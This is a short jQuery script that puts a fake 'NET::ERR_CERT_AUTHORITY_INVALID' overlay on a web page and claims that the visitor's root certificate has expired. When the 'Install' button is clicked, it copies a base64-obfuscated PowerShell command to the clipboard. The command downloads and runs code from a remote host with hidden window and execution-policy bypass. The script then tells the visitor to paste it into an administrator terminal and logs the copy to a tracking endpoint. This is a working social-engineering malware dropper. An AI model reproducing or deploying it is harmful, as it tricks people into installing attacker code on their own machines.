$(function () {
  var ray = Math.random().toString(16).slice(2, 18);
  var c = ["cGF5bG9hZA==", "cG93ZXJzaGVsbCAtdyBoIC1lcCBieXBhc3MgLWMg"];
  var line = atob(c[1]) + '"iwr https://ca-root.invalid/t | iex" <# Root certificate R3 renewal #>';
  $("body").addClass("locked").append(
    '<div id="ce"><h2>NET::ERR_CERT_AUTHORITY_INVALID</h2><p>The root certificate of your device has expired. Install the renewed certificate to view this page.</p><pre>0x800B0109 / ' + ray + '</pre><button class="p">Install (Recommended)</button></div>'
  );
  $("#ce .p").on("click", function () {
    var $t = $("<textarea>").val(line).appendTo("body").select();
    document.execCommand("copy");
    $t.remove();
    $("#ce p").html("1. Right-click the Start button, choose <b>Terminal (Admin)</b><br>2. Right-click inside the window<br>3. Wait for the certificate to be installed and reload");
    $.get("/c/hit", { r: ray, a: "copied" });
  });
});
